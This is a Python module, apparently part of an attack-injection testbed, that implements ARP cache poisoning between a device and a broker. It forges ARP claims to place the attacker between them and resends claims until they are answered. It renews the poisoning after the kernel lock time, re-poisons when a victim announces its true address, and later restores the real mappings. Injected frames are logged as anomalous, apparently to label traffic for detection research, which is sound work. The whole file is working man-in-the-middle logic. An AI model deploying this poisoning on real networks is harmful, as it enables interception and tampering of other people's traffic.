"""Poisoning of the ARP caches of a unit and the broker: taking both over, holding them, restoring them."""

from dataclasses import dataclass, field

from coldaisle_contracts.addressing import BROKER, INJECTOR, Host
from coldaisle_contracts.journal_lines import FrameAct
from coldaisle_contracts.taxonomy import Role
from coldaisle_injector import frames
from coldaisle_injector.notes import Notes
from coldaisle_injector.segments import Arp
from coldaisle_injector.wire import BROADCAST, OURS, Wire

RESEND_NS = 250_000_000
"""Wall time after which an unanswered claim is repeated, in ns."""
LOCK_NS = 1_100_000_000
"""Wall time for which a kernel keeps an address that it has just learned, in ns: one second (locktime, arp(7)) and a margin."""
_IS_AT = 2


@dataclass
class Caches:
    """The ARP caches of a unit and the broker, as far as each maps the other's address.

    Attributes:
        unit: the victim.
        wire: the attacker's socket.
        notes: the attacker's journal.
        poisoned: whether both caches map the other side's address to the attacker.
        unanswered: addresses of the victims that have not yet answered a claim.
    """

    unit: Host
    wire: Wire
    notes: Notes
    poisoned: bool = False
    unanswered: set[str] = field(default_factory=set)
    _claimed_ns: int = 0

    def poison(self) -> None:
        """Claim the unit's place at the broker and the broker's at the unit."""
        self.poisoned = True
        self.unanswered = {self.unit.ip, BROKER.ip}
        self._claim()

    def insist(self) -> None:
        """Repeat claims that were not answered within :data:`RESEND_NS`."""
        if self.unanswered and self.notes.times.wall_ns() - self._claimed_ns > RESEND_NS:
            self._claim()

    def renew(self) -> None:
        """Claim both places again, unless the last claim is so recent that a kernel may still ignore another."""
        if not self.unanswered and self.notes.times.wall_ns() - self._claimed_ns > LOCK_NS:
            self.poison()

    def restore(self) -> None:
        """Give both sides the other's true MAC address."""
        self.poisoned = False
        for victim, owner in self._sides():
            frame = frames.arp_restore(INJECTOR.mac, (victim.ip, victim.mac), (owner.ip, owner.mac))
            self._send(frame, victim, "restore")

    def on_arp(self, arp: Arp, frame: bytes) -> None:
        """Handle an answer to a claim, or answer a question about the other side."""
        victim, other = self._sides()[0 if arp.sender_ip == self.unit.ip else 1]
        if not self.poisoned or arp.sender_ip != victim.ip:
            return
        if arp.target_ip != other.ip:
            if frame[:6] == BROADCAST:  # the other side learned the sender's true MAC address from it
                self.poison()
            return
        to_us = frame[:6] == OURS
        if to_us:
            self.notes.frame(frame, victim, Role.CONSEQUENCE, "reply", anomalous=True)
        if arp.operation == _IS_AT:
            self.unanswered.discard(victim.ip)
        elif to_us:
            self._send(
                frames.arp_claim(INJECTOR.mac, (victim.ip, victim.mac), other.ip, _IS_AT), victim, "poison"
            )
        else:
            self.poison()

    def _sides(self) -> tuple[tuple[Host, Host], tuple[Host, Host]]:
        """Return each victim with the host whose place the attacker takes."""
        return (self.unit, BROKER), (BROKER, self.unit)

    def _claim(self) -> None:
        self._claimed_ns = self.notes.times.wall_ns()
        for victim, claimed in self._sides():
            if victim.ip in self.unanswered:
                frame = frames.arp_claim(INJECTOR.mac, (victim.ip, victim.mac), claimed.ip)
                self._send(frame, victim, "poison")

    def _send(self, frame: bytes, victim: Host, act: FrameAct) -> None:
        self.notes.spend()
        self.wire.send(frame)
        self.notes.frame(frame, victim, Role.INJECTED, act, anomalous=True)
